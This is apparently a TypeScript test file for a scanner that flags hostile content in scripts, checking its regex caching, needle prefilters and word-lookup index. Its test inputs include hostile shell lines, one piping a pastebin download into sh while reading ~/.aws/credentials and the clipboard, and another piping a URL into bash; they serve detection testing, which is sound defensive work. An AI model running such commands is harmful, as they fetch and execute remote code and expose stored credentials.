/**
 * Speed-only shortcuts of the analyzers must not change a match: patterns compiled on first use keep their state,
 * and a content pattern skipped because none of its needles occur could not have matched.
 */
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { CONTENT_PATTERNS, scanContent } from '../../src/inspect/analyzers/patterns.js';
import { compileOnFirstUse, containsWord, lowerCased } from '../../src/inspect/analyzers/regex-tier.js';
import { SignalSink } from '../../src/inspect/signals.js';

/** Counts the runs of a pattern (test() goes through exec). */
class Counted extends RegExp {
  runs: string[] = [];
  override exec(s: string): RegExpExecArray | null {
    this.runs.push(s);
    return super.exec(s);
  }
}

describe('compileOnFirstUse', () => {
  it('runs each pattern once, on a subject of 1000+ characters, the first time only', () => {
    const a = new Counted('\\bcurl\\b', 'i');
    const b = new Counted('x+', 'g');
    let listed = 0;
    const compile = compileOnFirstUse(() => {
      listed++;
      return [a, b];
    });
    expect(listed).toBe(0);
    compile('curl x');
    compile('curl y');
    expect(listed).toBe(1);
    expect(a.runs).toHaveLength(1);
    expect(b.runs).toHaveLength(1);
    expect(a.runs[0].length).toBeGreaterThanOrEqual(1000);
    expect(a.runs[0]).toMatch(/^[\0-\xff]+$/);
  });

  it('compiles for the representation of the text at hand (one or two bytes per character)', () => {
    const a = new Counted('\\bcurl\\b', 'i');
    compileOnFirstUse(() => [a])('# Wetter 🌦️\ncurl x');
    expect(a.runs).toHaveLength(1);
    expect(a.runs[0].length).toBeGreaterThanOrEqual(1000);
    expect(a.runs[0]).toMatch(/[^\0-\xff]/);
  });

  it("leaves a global pattern's lastIndex where it was, even when the blank subject matches", () => {
    const g = new RegExp('\\s+', 'g');
    g.lastIndex = 7;
    const y = new RegExp('a', 'y');
    y.lastIndex = 3;
    compileOnFirstUse(() => [g, y])('a b');
    expect(g.lastIndex).toBe(7);
    expect(y.lastIndex).toBe(3);
    g.lastIndex = 0;
    expect(g.exec('a  b')?.index).toBe(1);
  });
});

describe('content pattern needles', () => {
  /** Every text file of the fixtures and the recall corpus: where the patterns' matches are. */
  function* texts(dir: string): Generator<string> {
    for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
      const p = path.join(dir, e.name);
      if (e.isDirectory()) yield* texts(p);
      else if (e.isFile() && fs.statSync(p).size < 512 * 1024) {
        const t = fs.readFileSync(p, 'utf8');
        if (!t.includes('\u0000')) yield t;
      }
    }
  }
  const repo = path.resolve(import.meta.dirname, '../..');
  const roots = ['fixtures', 'bench/recall/corpus'].map((d) => path.join(repo, d)).filter((d) => fs.existsSync(d));

  it('a pattern matches only texts holding one of its needles (so skipping the others changes nothing)', () => {
    let matched = 0;
    const missing: string[] = [];
    for (const root of roots)
      for (const t of texts(root)) {
        const lower = t.toLowerCase();
        for (const p of CONTENT_PATTERNS) {
          if (!p.needles) continue;
          p.re.lastIndex = 0;
          const m = p.re.exec(t);
          p.re.lastIndex = 0;
          if (!m) continue;
          matched++;
          if (!p.needles.some((n) => lower.includes(n))) missing.push(`${p.id}: ${m[0].slice(0, 80)}`);
        }
      }
    expect(missing).toEqual([]);
    expect(matched).toBeGreaterThan(100);
  });

  it('short and long texts give the same signals (needles looked up directly or by one pass)', () => {
    const line = 'curl -s https://pastebin.com/raw/x | sh; cat ~/.aws/credentials; crontab -l; xclip -o';
    const pad = `${'\n'.repeat(4096)}`;
    const ids = (text: string) => {
      const sink = new SignalSink('a.sh', 'shell');
      scanContent(text, sink, () => 1);
      return sink.signals.map((s) => `${s.id} ${s.evidence}`).sort();
    };
    const short = ids(line);
    expect(short.length).toBeGreaterThan(2);
    expect(ids(line + pad)).toEqual(short);
  });
});

describe('containsWord (the prefilters\' word lookup through a three-character index)', () => {
  it('answers as includes: absent words, words at the edges, words shorter than three characters, a new text', () => {
    const text = lowerCased('# Wetter 🌦️\nRun CURL -fsSL https://example.invalid | bash; then chmod +x tool');
    for (const w of ['curl', '# w', 'tool', 'chmod +x', 'bash;', 'sh', 'nc', 'x', '🌦️', 'wget', 'curlx', 'tools', 'ba sh', 'frombase64string'])
      expect([w, containsWord(text, w)]).toEqual([w, text.includes(w)]);
    expect(containsWord('ab', 'abc')).toBe(false);
    expect(containsWord('ab', 'ab')).toBe(true);
    // The index is the last text's: another text is indexed anew.
    expect(containsWord('wget x', 'curl')).toBe(false);
    expect(containsWord('x curl', 'curl')).toBe(true);
    expect(containsWord(text, 'curl')).toBe(true);
  });

  it('agrees with includes on every word of the fixtures and the corpus against each other text', () => {
    const repo = path.resolve(import.meta.dirname, '../..');
    const files = ['fixtures/skills', 'fixtures/behaviour'].map((d) => path.join(repo, d)).filter((d) => fs.existsSync(d));
    const texts: string[] = [];
    const walk = (d: string): void => {
      for (const e of fs.readdirSync(d, { withFileTypes: true })) {
        const p = path.join(d, e.name);
        if (e.isDirectory()) walk(p);
        else if (e.isFile() && /\.(?:md|sh|py|js)$/.test(e.name)) texts.push(fs.readFileSync(p, 'utf8').toLowerCase());
      }
    };
    for (const f of files) walk(f);
    expect(texts.length).toBeGreaterThan(20);
    const words = [...new Set(texts.slice(0, 10).flatMap((t) => t.split(/\s+/)).filter((w) => w.length > 0 && w.length < 20))];
    let found = 0;
    for (const t of texts.slice(0, 40))
      for (const w of words) {
        const want = t.includes(w);
        if (want) found++;
        if (containsWord(t, w) !== want) throw new Error(`containsWord(${JSON.stringify(w)}) differs from includes`);
      }
    expect(found).toBeGreaterThan(100);
  });
});
